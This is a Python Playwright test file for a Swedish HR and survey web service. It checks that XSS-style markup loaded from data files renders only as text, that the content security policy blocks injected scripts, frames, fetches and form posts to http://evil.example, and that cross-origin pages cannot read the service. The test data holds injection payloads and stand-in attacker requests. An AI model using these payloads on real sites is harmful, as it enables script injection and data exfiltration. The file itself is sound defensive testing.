"""What hostile files and injected markup can do in a real Chromium: nothing.

The fixtures of this folder fail a test on any request to another host and on any error in the
console, where a breach of the content policy is told.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page

from queries.viewer import Role
from tests import loading
from tests.browser.conftest import Visit
from tests.browser.everywhere import VISITS, Wait, address, becomes, go, opened

HOSTILE = (
    "<img src=x onerror=window.hit=1><script>window.hit=1</script><b class=injected>f</b>"
    '<a href="http://evil.example">k</a>![p](http://evil.example/p.png)'
    " :red[R] :material/key: $x^2$"
)
MARKS = (":red[R]", ":material/key:", "$x^2$", "<b class=injected>", "![p](")
# An address of ours may well hold such a name, as what is chosen.
MADE = ", ".join(
    (
        'img[src="x"]', ".injected", '[href^="http://evil"]', '[src*="evil"]', "[onerror]",
        ".katex", ".stMarkdownColoredText", "svg a",
    )
)  # fmt: skip
NOTE_BREACHES = (
    "window.breaches = []; document.addEventListener('securitypolicyviolation',"
    " e => window.breaches.push(e.effectiveDirective))"
)
FRAME = [
    list(loading.FRAME_HEADERS),
    ["AAA", f"A {HOSTILE}", f"N {HOSTILE}", "100", "60", "40"],
    ["BBB", "Betaförvaltningen", "Betanämnden", "80", "30", "30"],
    ["CCC", f"C {HOSTILE}"[:190], "Gammanämnden", "12", "12", "9"],
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(start_server: Callable[..., str], tmp_path_factory: pytest.TempPathFactory) -> str:
    """Return the address of the service on files in which every free text is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DISTANSKOLLEN_STORE", str(folder / "store"))
        patch.setenv("DISTANSKOLLEN_KEY_FILE", str(folder / "key"))
        loading.run(
            "load", "frame", loading.write_csv(folder / f"ram {HOSTILE[:15]}.csv", FRAME),
            "--wave", "2024", "--label", f"Våg {HOSTILE}",
        )  # fmt: skip
        loading.run("load", "survey", loading.write_survey(folder / "s.csv"), "--wave", "2024")
        rows = [
            row
            | {
                "Överenskommelse": f"{row['Överenskommelse']} {HOSTILE}"[:199],
                "Anställd": f"{row['Anställd']} {HOSTILE}"[:199],
                "Ansvarig chef": f"Chef {HOSTILE}"[:199],
                "Förvaltning": ("AAA", "BBB", "CCC")[n % 3],
                "Skäl": HOSTILE,
                "Riskbedömning": "2024-12-01",
            }
            for n, row in enumerate(loading.agreements(8))
        ]
        register = loading.write_records(folder / "register.csv", rows)
        loading.run("load", "agreements", register, "--as-of", "2024-12-31")
    return start_server(folder / "store")


def assert_harmless(page: Page, state: str) -> None:
    """Fail if anything that a file holds has become more than text."""
    assert page.evaluate("window.hit") is None, state
    assert page.locator(MADE).count() == 0, state
    assert page.evaluate("window.breaches") == [], state


LOOKED_AT = {
    ("sammanfattning", Role.POLITIKER), ("rattvisa", Role.REVISOR), ("overenskommelser", Role.HR),
    ("regelverk", Role.REVISOR), ("importera", Role.ADMIN),
}  # fmt: skip


@pytest.mark.parametrize(
    ("path", "role"),
    [
        pytest.param(path, role, marks=[] if (path, role) in LOOKED_AT else [pytest.mark.slow])
        for path, role in VISITS
    ],
)
def test_what_a_file_holds_is_shown_as_it_stands_and_never_as_markup(
    hostile: str, open_page: Callable[..., Page], wait_ready: Wait, path: str, role: Role
):
    page = open_page()
    page.add_init_script(NOTE_BREACHES)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for more in ({}, {"forvaltning": "AAA"}):
        go(page, hostile + address(path, role, mina="AAA,BBB,CCC", **more), wait_ready)
        assert_harmless(page, f"{path} {more}")
    for state, _where in opened(page, wait_ready):
        assert_harmless(page, state)
    assert dialogs == []
    if path in ("sammanfattning", "overenskommelser"):
        # What a drawn table holds is told to who hears the page, a little after it is drawn.
        page.wait_for_function(
            "marks => { const told = [document.body, ...document.querySelectorAll('canvas table')]"
            ".map(place => place.innerText).join();"
            " return marks.every(mark => told.includes(mark)) }",
            arg=[*MARKS],
        )


def test_what_slips_into_a_page_is_stopped_by_the_policy(
    server: str, page: Page, wait_ready: Wait, visit: Visit
):
    """As if some text had become markup after all: it can run nothing and tell nobody."""
    page.add_init_script(NOTE_BREACHES)
    go(page, server + address("sammanfattning"), wait_ready)
    assert page.evaluate("window.breaches") == [], "the page itself breaks nothing"
    tries = {
        "img-src": "document.body.append(Object.assign(new Image(), {src: 'http://evil.example/x'}))",
        "script-src-attr": "document.body.insertAdjacentHTML('beforeend',"
        " '<img src=data:, onerror=window.hit=1>')",
        "script-src-elem": "{ const s = document.createElement('script');"
        " s.textContent = 'window.hit=1'; document.body.append(s); }",
        "script-src":  # Later: what a debugger runs, as this test does, may do so.
        "setTimeout(() => { try { new Function('window.hit=1')() } catch { 0 } })",
        "connect-src": "fetch('http://evil.example/x').catch(() => 0)",
        "frame-src": "document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: 'http://evil.example'}))",
        "style-src-elem": "document.head.append(Object.assign(document.createElement('link'),"
        " {rel: 'stylesheet', href: 'http://evil.example/x.css'}))",
        "object-src": "document.body.append(Object.assign(document.createElement('object'),"
        " {data: 'http://evil.example/x'}))",
        "form-action": "{ const f = document.createElement('form'); f.method = 'post';"
        " f.action = 'http://evil.example'; document.body.append(f); f.submit(); }",
        "base-uri": "document.head.append(Object.assign(document.createElement('base'),"
        " {href: 'http://evil.example/'}))",
        "font-src": "new FontFace('f', 'url(http://evil.example/f)').load().catch(() => 0)",
        "media-src": "document.body.append(Object.assign(new Audio(), {src: 'http://evil.example/a'}))",
        "worker-src": "try { new Worker('http://evil.example/w.js') } catch { 0 }",
    }
    # Elements and not the page's own document: a policy that is not sent would let them through.
    for directive, code in tries.items():
        page.evaluate(f"() => {{ {code} }}")
        if directive == "worker-src":
            continue  # of another origin it is refused before the policy is asked
        becomes(page, f"() => window.breaches.includes({directive!r})")
    assert page.evaluate("window.hit") is None
    # Told as begun before the policy ends them.
    visit.outside.clear()
    visit.errors.clear()


def test_a_page_elsewhere_can_neither_frame_nor_steer_nor_read_the_service(
    server: str, open_page: Callable[..., Page], tmp_path: Path, console_errors: list[str]
):
    """Served from another port of this computer, which is another origin."""
    page = open_page()
    other = server.replace("localhost", "127.0.0.1")
    page.goto(f"{other}/_stcore/health")
    told = page.evaluate(
        "async server => { const told = [];"
        " await fetch(server + '/').then(() => told.push('read'), () => 0);"
        " await new Promise(done => { const s = new WebSocket(server.replace('http', 'ws')"
        " + '/_stcore/stream', ['streamlit']);"
        " s.onopen = () => { told.push('socket'); done() }; s.onerror = done; });"
        " return told }",
        server,
    )
    assert told == []
    console_errors.clear()
